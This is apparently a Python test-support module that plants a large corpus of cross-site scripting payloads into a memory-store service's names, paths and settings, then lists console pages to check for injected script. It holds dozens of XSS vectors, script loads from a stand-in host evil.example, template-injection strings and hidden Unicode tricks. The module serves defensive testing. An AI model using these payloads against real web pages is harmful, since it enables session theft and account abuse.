"""Texts that try to run a script, to load something, or to deceive in a page, and a store that is full of them."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

from retentive import MemoryStore
from support.console import pages_of
from support.http_api import Api

HANDLERS = (
    "<img src=x onerror={run}>", "<svg onload={run}>", "<svg/onload={run}>", "<body onload={run}>",
    "<input autofocus onfocus={run}>", "<details open ontoggle={run}>", "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>", "<marquee onstart={run}>", "<iframe onload={run}>", "<object data=x onerror={run}>",
    "<a onmouseover={run} href=x>x</a>", "<style onload={run}></style>", "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>", "<math><mtext onclick={run}>x", "<p id=main onclick={run}>x</p>",
    "<script>{run}</script>", "<script src=//evil.example/x></script>", "<scr<script>ipt>{run}</scr</script>ipt>",
    "<iframe srcdoc='<script>{run}</script>'>", "<iframe src=javascript:{run}>", "<embed src=javascript:{run}>",
    "<form action=javascript:{run}><button>x</button></form>", "<button formaction=javascript:{run}>x</button>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import'//evil.example/x.css'</style>",
    "<div style='background:url(//evil.example/x)'>x</div>", "<img src=//evil.example/x>",
    "<isindex action=javascript:{run}>",
    "<div hx-get=/console/keys hx-trigger=load>x</div>", "<p data-hx-post=/console/logout data-hx-trigger=load>x</p>",
    "<template><script>{run}</script></template>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={run}&gt;'>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<script>{run}</script>]]>", "<?xml version='1'?><script>{run}</script>", "<x onclick={run}>x</x>",
)  # fmt: skip
BREAKS = ("", "'>", '">', "</textarea>", "</title>", "</script>", "--></table>", "</bdi></td>", "\\\"'`>")
"""What may end the place in a page in which a text stands."""
MARKDOWN = (
    "[x](javascript:{run})", "[x](JaVaScRiPt:{run})", "[x](java&#x09;script:{run})", "[x](&#106;avascript:{run})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:{run})", "[x](<javascript:{run}>)", "<javascript:{run}>",
    "![x](https://evil.example/x.png)", "![x](//evil.example/x)", "![x](javascript:{run})", "[x](//evil.example)",
    '[x](https://ok.example "t\\" onmouseover={run}")', "[x]: javascript:{run}\n\n[x]", "[![x](x)](javascript:{run})",
    "[x](/console/logout)", "[x](/v1/memory_stores)", "[x](file:///etc/passwd)", "`<img src=x onerror={run}>`",
    "```\n<script>{run}</script>\n```", "    <script>{run}</script>", "| a |\n| - |\n| <img src=x onerror={run}> |",
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;img src=x onerror={run}&#62;", "<https://ok.example/\"onclick={run}>",
    "[x](https://ok.example/<script>{run}</script>)", "# <svg onload={run}>", "> <svg onload={run}>",
    "- [ ] <svg onload={run}>",
    "{{{{ cycler.__init__.__globals__ }}}}", "{{% include 'login.html' %}}", "[x](https://user@ok.example:99999999/)",
    "[x](https://[evil)", "[x](mailto:a@evil.example?body={run})", "~~<b onclick={run}>x</b>~~",
    "[x](http://ok.example\u202e/gro)",
)  # fmt: skip
DECEIVING = (
    "\u202egnp.exe",
    "a\u2066b\u2069",
    "zero\u200bwidth",
    "\ufeffbom",
    "soft\u00adhyphen",
    "tag\U000e0041",
    "\u3164",
)


def run_of(number: int) -> str:
    """Script of a payload, which the detector of a browser test would see."""
    return f"window.pwned={number}"


def texts() -> list[str]:
    """Payloads for texts: each handler after each break, the Markdown, and the deceiving texts."""
    found = [start + payload for start, payload in product(BREAKS, HANDLERS)]
    return [each.format(run=run_of(at)) for at, each in enumerate([*found, *MARKDOWN])] + list(DECEIVING)


def names() -> Iterator[str]:
    """Payloads for names of actors, sources, sessions and stores: without control characters."""
    for at, payload in enumerate(HANDLERS):
        yield (BREAKS[at % len(BREAKS)] + payload.format(run=run_of(at)))[:200]


def path_names() -> Iterator[str]:
    """Payloads for names in paths: without slashes and hidden characters."""
    for at, name in enumerate(names()):
        plain = name.replace("/", "∕").replace("\\", "")[:120]
        yield f"{at} {plain}.md"


GROUP = "<img src=x onerror=pwned=1>"
"""Name of a group, and of its member."""


def plant(api: Api, step: int = 1) -> MemoryStore:
    """Store the corpus, or each `step`-th of its texts, in texts, paths, actors, names, settings and proposals."""
    actors, corpus, opened = list(names()), texts()[::step], api.place.opened
    made = opened.create_store(actors[0], description=actors[1][:1_000], key=actors[2], metadata={"x": actors[3]})
    store = opened.store(made.id)
    store.create("/memories/index.md", "\n\n".join(corpus), actor=f"user:{actors[4]}")
    store.create("/memories/raw.txt", "\n".join(corpus), actor=f"session:{actors[5]}")
    store.write("/memories/raw.txt", "\n".join(corpus[::-1]), actor=f"session:{actors[6]}")
    for at, name in enumerate(path_names()):
        source = actors[(at + 1) % len(actors)]
        store.create(f"/memories/{name}", source, actor=f"session:{actors[at]}", source=f"web:{source}", session=source)
    store.change_settings(
        {
            "audit": True,
            "quarantine": [f"session:{actors[7]}"],
            "trust": {"session:*": "unconfirmed", f"source:{actors[8]}": "unconfirmed"},
            "review": ["session:new*"],
            "read_only_paths": [f"/memories/{next(path_names())}"],
        }
    )
    for name in list(path_names())[:8]:
        store.create(f"/memories/d{name}/x.md", "")
    store.create("/memories/<b>proposed.md", "\n".join(texts()[:60]), actor=f"session:new{actors[9]}")
    store.delete(f"/memories/{list(path_names())[-1]}", actor=f"session:{actors[10]}")
    group = {"name": GROUP, "members": [f"user:{GROUP}"], "grants": [{"role": "read"}]}
    assert api.post("/v1/organizations/groups", group).status == 200
    return store


def urls(api: Api, store: MemoryStore) -> Iterator[str]:
    """Every page of the store, with the queries that show hostile text."""
    at, name = f"/console/s/{store.id}", next(names())
    versions = store.history.log("/memories/raw.txt")
    proposal = store.review.pending()[0].id
    path = quote(list(path_names())[3])
    ids = {
        "path": path, "memory_id": versions[0].memory_id, "version_id": versions[0].id,
        "pair": f"{versions[1].id}..{versions[0].id}", "revision": versions[0].id, "proposal_id": proposal,
        "actor": quote(str(versions[0].actor), safe=""),
        "group": api.get("/v1/organizations/groups").body["data"][0]["id"],
    }  # fmt: skip
    yield from (url for url in pages_of(store.id, **ids) if not url.endswith(("/export", "/backup", "/download")))
    asked = quote(name)
    for query in (
        "sensitive?scan=1", "audit?verify=1", f"search?q={asked}&under={asked}", "search?q=script+img",
        f"search?q=script&actor={quote(str(versions[0].actor), safe='')}", f"search?q=script&actor={asked}",
        f"activity?path={asked}", f"activity?actor={asked}", f"tree/?at={asked}", "tree/?at=r3", "m/index.md",
        "since/?at=r3", f"since/{path}?at=r3", f"since/?at={asked}", "m/index.md?at=r1",
        "children/", "m/raw.txt", "m/raw.txt?view=blame", "m/raw.txt?view=history", "m/index.md?view=raw",
        "edit/index.md", "change/r3", "change/r3?view=unified",
        f"undo?actor={quote(str(versions[0].actor), safe='')}", "undo?change=r3", "restore?path=/memories&to=r3",
        f"restore?path={asked}", f"erase?id={versions[0].memory_id}", f"redact?version={versions[0].id}", "new",
        f"m/{quote(list(path_names())[-1])}", f"m/{asked}", f"undo?change={asked}", f"go?path={asked}",
    ):  # fmt: skip
        yield f"{at}/{query}"
    yield from (f"/console/?q={asked}", "/console/", f"/console/login?next={asked}")
